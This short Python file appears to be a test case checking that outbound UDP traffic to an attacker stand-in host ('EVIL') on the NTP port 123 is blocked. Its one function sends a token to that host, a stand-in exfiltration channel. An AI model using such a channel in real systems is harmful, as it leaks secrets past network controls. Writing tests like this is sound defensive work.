"""
how: UDP to the port of NTP
expect: shut
"""

from land import EVIL
from sockets import udp


def attempt(token):
    return udp(EVIL, 123, token)
